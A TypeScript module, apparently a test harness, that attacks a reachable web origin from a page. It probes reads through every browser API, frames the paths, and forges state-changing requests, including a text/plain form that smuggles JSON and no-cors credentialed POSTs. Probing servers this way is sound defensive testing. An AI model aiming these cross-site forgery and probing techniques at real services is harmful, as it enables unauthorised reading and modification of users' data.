/** Attacks of a web page on a machine that its browser can reach: reading by every API there is, and requests that change state.
 *  These functions run in the page, so each stands alone. */

/** What is attacked: an origin, and paths of it. */
export interface Target {
  /** `http://host:port` */
  origin: string;
  /** Paths that answer GET. */
  routes: string[];
  /** Paths that speak WebSocket. */
  sockets: string[];
}

/** A request that changes something. */
export interface Write {
  method: string;
  path: string;
  /** JSON that the route would accept. */
  body: string;
}

/** Reads by every API that shows no frame; returns what it got, as `API path`. */
export async function read({ origin, routes, sockets }: Target): Promise<string[]> {
  const got: string[] = [];
  /** An address of its own each time: nothing comes from the cache. */
  let asked = 0;
  const address = (path: string) => `${origin}${path}${path.includes('?') ? '&' : '?'}asked=${(asked += 1)}`;

  async function fetched(way: string, path: string, init: RequestInit): Promise<void> {
    try {
      const response = await fetch(address(path), { ...init, signal: AbortSignal.timeout(15_000) });
      const text = await response.text();
      // An opaque answer shows nothing, not even its status.
      if (response.type !== 'opaque' || text !== '' || response.status !== 0) got.push(`${way} ${path}`);
    } catch {
      // Refused.
    }
  }

  function loaded(way: string, path: string, element: HTMLElement, attributes: Record<string, string>): Promise<void> {
    return new Promise((resolve) => {
      const end = (was: boolean) => () => {
        if (was) got.push(`${way} ${path}`);
        element.remove();
        resolve();
      };
      element.addEventListener('load', end(true));
      element.addEventListener('error', end(false));
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
    });
  }

  function spoken(path: string, protocols: string[]): Promise<void> {
    return new Promise((resolve) => {
      const socket = new WebSocket(origin.replace('http', 'ws') + path, protocols);
      socket.onopen = () => {
        got.push(`WebSocket ${path}`);
        socket.close();
        resolve();
      };
      socket.onclose = () => resolve();
    });
  }

  function streamed(path: string): Promise<void> {
    return new Promise((resolve) => {
      const source = new EventSource(address(path), { withCredentials: true });
      const end = (was: boolean) => () => {
        if (was) got.push(`EventSource ${path}`);
        source.close();
        resolve();
      };
      source.onopen = end(true);
      source.onerror = end(false);
    });
  }

  async function imported(path: string): Promise<void> {
    try {
      await import(/* @vite-ignore */ address(path));
      got.push(`import ${path}`);
    } catch {
      // Refused, or no script.
    }
  }

  const ways = routes.flatMap((path) => [
    fetched('fetch', path, { credentials: 'omit' }),
    fetched('fetch with cookies', path, { credentials: 'include' }),
    fetched('fetch with a token', path, { headers: { authorization: 'Bearer x' } }),
    fetched('fetch no-cors', path, { mode: 'no-cors', credentials: 'include' }),
    loaded('img', path, new Image(), { src: address(path) }),
    loaded('script', path, document.createElement('script'), { src: address(path) }),
    loaded('style sheet', path, document.createElement('link'), { rel: 'stylesheet', href: address(path) }),
    streamed(path),
    imported(path),
  ]);
  await Promise.all([...ways, ...sockets.flatMap((path) => [spoken(path, []), spoken(path, ['sightline.v1'])])]);
  return got;
}

/** Shows the paths in frames of every kind; they stay. Resolves when each has loaded something or failed. */
export async function frame({ origin, routes }: Target): Promise<void> {
  const kinds = [
    ['iframe', 'src'],
    ['object', 'data'],
    ['embed', 'src'],
  ] as const;
  await Promise.all(
    routes.flatMap((path) =>
      kinds.map(
        ([tag, attribute]) =>
          new Promise<void>((resolve) => {
            const element = document.createElement(tag);
            element.addEventListener('load', () => resolve());
            element.addEventListener('error', () => resolve());
            // An embedded thing that fails may stay silent.
            setTimeout(resolve, 1_000);
            element.setAttribute(attribute, origin + path);
            document.body.append(element);
          }),
      ),
    ),
  );
}

/** Sends each request by every API that a page has, without reading answers. Resolves when all are sent or refused. */
export async function write({ origin, writes }: { origin: string; writes: Write[] }): Promise<void> {
  const sent: Promise<unknown>[] = [];
  const quietly = (request: Promise<unknown>) => sent.push(request.catch(() => undefined));

  /** A form whose plain text is JSON: the name of its one field is all but the last letters. */
  function posted(path: string, kind: string, body: string): void {
    const target = document.createElement('iframe');
    target.name = `frame${document.forms.length}`;
    const form = document.createElement('form');
    Object.assign(form, { method: 'post', action: origin + path, enctype: kind, target: target.name });
    const field = document.createElement('input');
    // The `=` between name and value falls into a value of the JSON.
    Object.assign(field, { name: body.slice(0, -2), value: body.slice(-2) });
    form.append(field);
    document.body.append(target, form);
    sent.push(new Promise((resolve) => {
      target.addEventListener('load', resolve);
      setTimeout(resolve, 1_000);
    }));
    form.submit();
  }

  for (const { method, path, body } of writes) {
    for (const kind of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain']) posted(path, kind, body);
    navigator.sendBeacon(origin + path, body);
    navigator.sendBeacon(origin + path, new Blob([body], { type: 'application/json' }));
    navigator.sendBeacon(origin + path, new FormData());
    for (const credentials of ['omit', 'include'] as const) {
      quietly(fetch(origin + path, { method: 'POST', mode: 'no-cors', credentials, body }));
      quietly(fetch(origin + path, { method: 'POST', mode: 'no-cors', credentials, body, keepalive: true, headers: { 'content-type': 'text/plain;application/json' } }));
      quietly(fetch(origin + path, { method, credentials, ...(method === 'DELETE' ? {} : { body, headers: { 'content-type': 'application/json' } }) }));
    }
  }
  await Promise.all(sent);
}
